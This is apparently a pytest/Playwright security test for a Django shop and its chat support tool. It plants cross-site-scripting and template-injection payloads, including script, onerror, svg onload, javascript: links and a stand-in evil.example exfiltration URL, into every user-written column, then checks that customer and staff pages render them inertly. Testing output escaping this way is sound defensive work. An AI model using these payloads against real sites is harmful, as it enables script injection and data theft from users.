"""Hostile text in every field: it is read as text on every page, and nothing else."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.journeys.conftest import UNHURRIED, Visitor
from tests.journeys.pages import Visit
from tests.journeys.shop import tables
from tests.servers.product import Product

PAYLOADS = (
    "<script>window.ran = 1; alert(1)</script>",
    '<img src="https://evil.example/x.png" onerror="window.ran = 2">',
    "\"><svg onload='window.ran = 3'>",
    "![x](https://evil.example/?q=secret) [y](javascript:window.ran=4)",
    "{{ constructor.constructor('window.ran = 5')() }} {% load x %} ${window.ran=6}",
    "</textarea></title><iframe srcdoc='<script>parent.ran = 7</script>'></iframe>",
    "javascript:window.ran=8//\u202egnp.exe\u0007 <b style=position:fixed>",
)
HOSTILE = " ".join(PAYLOADS)

# Columns of text that people or machines outside write, by table.
WRITTEN = {
    "store_customer": ("name", "email"),
    "store_address": ("recipient", "address1", "city"),
    "store_product": ("name", "name_zh"),
    "store_carrier": ("name", "name_zh", "tracking_url"),
    "store_order": ("note", "internal_remark", "recipient", "address1", "city"),
    "store_orderline": ("title",),
    "store_trackingevent": ("place", "text"),
    "tools_helparticle": ("title", "body"),
    "auth_user": ("last_name",),
    "chat_conversation": ("title",),
    "chat_message": ("text",),
    "chat_run": ("question", "model"),
    "chat_handover": ("reason",),
    "chat_feedback": ("comment",),
}

STAFF_PAGES = (
    *(f"chat/{name}" for name in ("run", "conversation", "handover", "feedback")),
    *(f"store/{name}" for name in ("customer", "order", "product", "carrier")),
    "tools/helparticle",
    "auth/user",
)


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Product]:
    product = Product(tmp_path_factory.mktemp("poisoned"), UNHURRIED)
    product.prepare()
    product.manage(
        "shell",
        "-c",
        "from django.contrib.auth.models import User;"
        "User.objects.create_superuser('root', password='open-sesame-42')",
    )
    product.start()
    yield product
    product.stop()


def poison(product: Product) -> int:
    """Write the hostile text into every column; how many cells were changed."""
    changed = 0
    with tables(product) as shop:
        for table, columns in WRITTEN.items():
            for column in columns:
                changed += _poison_column(shop, table, column)
    return changed


def _poison_column(shop: sqlite3.Connection, table: str, column: str) -> int:
    # Each row another payload, so that none hides behind another one's syntax error.
    cells = shop.execute(f"SELECT rowid FROM {table}").fetchall()
    texts = [
        (PAYLOADS[index % len(PAYLOADS)], rowid) for index, (rowid,) in enumerate(cells)
    ]
    shop.executemany(f"UPDATE {table} SET {column} = ? WHERE rowid = ?", texts)
    return len(texts)


def assert_nothing_ran(visit: Visit) -> None:
    assert visit.page.evaluate("window.ran") is None, visit.page.url
    foreign = visit.page.evaluate(
        "[...document.querySelectorAll('img, iframe, object, embed, script[src]')]"
        ".map(one => one.src || one.data || 'inline')"
        ".filter(address => !address.startsWith(location.origin))"
    )
    assert foreign == [], visit.page.url


def test_hostile_text_is_only_read(poisoned: Product, visitor: Visitor) -> None:
    visit = visitor(poisoned, "lin")
    chat = visit.chat
    chat.ask(HOSTILE[:1900])
    chat.ask("I want to talk to a person")
    chat.ask("Has order O-204 shipped, and where is it now?")
    visit.chat.run.get_by_role("button", name="Not helpful").click()
    visit.chat.run.get_by_role("textbox").fill(HOSTILE[:900])
    visit.chat.run.get_by_role("button", name="Send").click()
    assert poison(poisoned) > 1000

    visit.page.reload()
    chat.ask("Has order O-204 shipped, and where is it now?")
    for stop in chat.stops.all():
        stop.locator("summary").click()
    for chip in chat.run.locator("button.chip").all():
        chip.click()
        visit.page.keyboard.press("Escape")
    chat.ask("How do returns work?")
    for stop in chat.stops.all():
        stop.locator("summary").click()
    assert_nothing_ran(visit)
    visit.open("/help/")
    assert_nothing_ran(visit)
    articles = visit.page.locator('main a[href^="/help/"]').all()
    addresses = [str(one.get_attribute("href")) for one in articles][:8]
    assert addresses
    for address in addresses:
        visit.open(address)
        assert_nothing_ran(visit)

    staff = visitor(poisoned)
    staff.open("/admin/login/")
    staff.page.locator("#id_username").fill("root")
    staff.page.locator("#id_password").fill("open-sesame-42")
    staff.page.locator("#id_password").press("Enter")
    expect(staff.page.locator("#site-name")).to_be_visible()
    for name in STAFF_PAGES:
        staff.open(f"/admin/{name}/")
        assert urlsplit(staff.page.url).path == f"/admin/{name}/"
        assert_nothing_ran(staff)
        rows = staff.page.locator("#result_list tbody th a, #result_list tbody td a")
        places = [row.get_attribute("href") for row in rows.all()[:3]]
        for place in places:
            staff.open(str(place))
            if staff.page.locator('button[name="do"][value="read"]').count():
                staff.page.locator("#reason").fill("looking for bad texts")
                staff.page.locator('button[name="do"][value="read"]').click()
                expect(staff.page.locator(".said")).to_be_visible()
            assert_nothing_ran(staff)


def test_a_page_with_a_script_of_its_own_would_complain(
    poisoned: Product, visitor: Visitor
) -> None:
    """The watch works: what the policy blocks is seen."""
    visit = visitor(poisoned, "lin")
    visit.chat.ready()
    with visit.context.expect_console_message(
        lambda message: "evil.example" in message.text
    ):
        visit.page.evaluate(
            "document.body.append(Object.assign(document.createElement('img'),"
            " {src: 'https://evil.example/x.png'}))"
        )
    assert any("evil.example" in complaint for complaint in visit.complaints)
    visit.complaints.clear()
    blocked = visit.page.evaluate(
        "try { document.body.innerHTML = '<b>x</b>'; 'written' }"
        " catch (error) { error.name }"
    )
    assert blocked == "TypeError"
    visit.complaints.clear()
